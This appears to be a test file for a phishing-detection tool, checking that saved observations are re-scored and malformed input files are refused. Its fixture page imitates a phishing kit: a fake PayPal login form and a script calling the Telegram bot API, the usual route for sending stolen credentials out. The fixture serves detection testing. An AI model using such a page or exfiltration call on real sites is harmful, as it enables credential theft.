import { describe, expect, test } from 'bun:test';
import { join } from 'node:path';
import { assess } from '#src/engine/assess/assess.ts';
import type { CheckOutcome } from '#src/interfaces/cli/check/check-one.ts';
import { readObserved, replay } from '#src/interfaces/cli/check/replay.ts';
import { UsageError } from '#src/interfaces/cli/command.ts';
import { readPage } from '#src/network/html/read-page.ts';
import type { Observations } from '#src/network/probes/observations.ts';
import { certificate, dnsRecords, observed, registration, visit } from '#test/engine/analyzers/evidence-samples.ts';
import { MODELS, SETTINGS } from '#test/support/models.ts';
import { temporaryDirectory } from '#test/support/temporary-directory.ts';

const URL_CHECKED = 'https://example.com/login';
const PAGE = `<html lang=en><title>Sign in</title><base href=/x/><meta name=author content=me><h1>PayPal</h1><!-- kit -->
  <form action=next.php method=post><label>User</label><input name=user value=a@b.example><input type=password></form>
  <a href=https://paypal.com/>PayPal</a><img src=logo.png alt=PayPal><iframe src=/f></iframe><p hidden>unseen</p>
  <meta http-equiv=refresh content="900;url=/y"><script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>`;

const document = readPage(new TextEncoder().encode(PAGE), {
  contentType: 'text/html; charset=utf-8',
  url: 'https://other.test/',
});
const failed = { state: 'failed', failure: { code: 'timeout', detail: 'x' }, elapsedMs: 3 } as const;
const OBSERVATIONS: Observations = {
  dns: observed(
    dnsRecords({
      soa: { primary: 'ns1.example.net', contact: 'host.example.net', serial: 1 },
      caa: [{ flags: 0, tag: 'issue', value: 'ca.example' }],
    }),
  ),
  registration: observed(registration()),
  certificate: observed(certificate({ faults: ['expired'], trusted: false })),
  page: observed({ ...visit(URL_CHECKED, 'https://other.test/'), document, headers: { server: 'x' } }),
  lists: observed({ blocked: { list: 'ours.txt', entry: 'example.com', line: 3 }, allowed: null }),
  landing: {
    host: 'other.test',
    dns: failed,
    registration: { state: 'skipped', reason: 'disabled' },
    certificate: observed(certificate()),
  },
};
const ANSWER = {
  url: URL_CHECKED,
  timestamp: '2026-11-20T12:00:00.000Z',
  request_id: '019c13f7-9800-7a11-8b3c-5d9f1e2a4c6b',
  analysis_details: { analysis_time: 0.5, timings: { observe: 0.4, assess: 0.1 } },
  observations: OBSERVATIONS,
};

const engine = {
  assess: (target, observations) => assess(target, observations, MODELS, SETTINGS),
} satisfies Parameters<typeof replay>[1];

async function* noInput(): AsyncGenerator<Uint8Array> {}

/** The outcomes of a file that holds `text`, or why it is refused. */
async function replayed(text: string): Promise<CheckOutcome[] | string> {
  await using directory = temporaryDirectory();
  const path = join(directory.path, 'seen.json');
  await Bun.write(path, text);
  try {
    return await Array.fromAsync(replay(await readObserved(path, noInput()), engine));
  } catch (error) {
    if (error instanceof UsageError) return error.message.replace(path, 'FILE');
    throw error;
  }
}

/** The value again, as often as it has members at any depth: each time another of them is `wrong`, or missing. */
function* brokenIn(value: unknown, wrong: unknown): Generator<unknown> {
  if (typeof value !== 'object' || value === null) return;
  for (const [key, member] of Object.entries(value)) {
    const rest = Array.isArray(value) ? [...value] : { ...value };
    yield Object.assign(rest, { [key]: wrong });
    for (const inner of brokenIn(member, wrong)) {
      yield Object.assign(Array.isArray(value) ? [...value] : { ...value }, { [key]: inner });
    }
  }
}

describe('a file of observations', () => {
  test('is re-scored as one JSON text or as one line per result', async () => {
    const whole = await replayed(JSON.stringify([ANSWER, ANSWER], null, 2));
    const lines = await replayed(`${JSON.stringify(ANSWER)}\n${JSON.stringify(ANSWER)}\n`);
    expect(whole).toHaveLength(2);
    expect(lines).toEqual(whole);
    expect(whole).toEqual([
      { result: expect.objectContaining({ url: URL_CHECKED, observations: OBSERVATIONS }) },
      { result: expect.objectContaining({ request_id: ANSWER.request_id }) },
    ]);
  });

  test.each([
    ['', ''],
    ['not json', ''],
    ['[]', ''],
    ['7', ': in answer 1 it must be an object'],
    ['{}', ': in answer 1 "url" is missing'],
    [JSON.stringify({ ...ANSWER, observations: {} }), ': in answer 1 "observations.dns" is missing'],
    [
      JSON.stringify([
        ANSWER,
        { ...ANSWER, observations: { ...OBSERVATIONS, page: { state: 'observed', value: {}, elapsedMs: 0 } } },
      ]),
      ': in answer 2 "observations.page.value.redirects" is missing',
    ],
    [
      JSON.stringify({ ...ANSWER, observations: { ...OBSERVATIONS, dns: { state: 'guessed' } } }),
      ': in answer 1 "observations.dns.state" must be "observed" or "failed" or "skipped"',
    ],
  ])('is refused in one sentence if it contains something else: %s', async (text, problem) => {
    expect(await replayed(text)).toBe(
      `FILE does not hold what check --with-observations --format json prints${problem}`,
    );
  });

  test('is refused if a time does not exist', async () => {
    expect(await replayed(JSON.stringify({ ...ANSWER, timestamp: '2026-13-32T12:00:00.000Z' }))).toBe(
      'FILE: invalid time: 2026-13-32T12:00:00.000Z',
    );
  });

  test('is re-scored or refused, whichever member is damaged', async () => {
    let [judged, refused] = [0, 0];
    for (const wrong of [undefined, null, 7, 'x', [], {}]) {
      for (const broken of brokenIn(ANSWER, wrong)) {
        if (typeof (await replayed(JSON.stringify(broken))) === 'string') refused++;
        else judged++;
      }
    }
    expect(judged).toBeGreaterThan(100);
    expect(refused).toBeGreaterThan(500);
  });
});
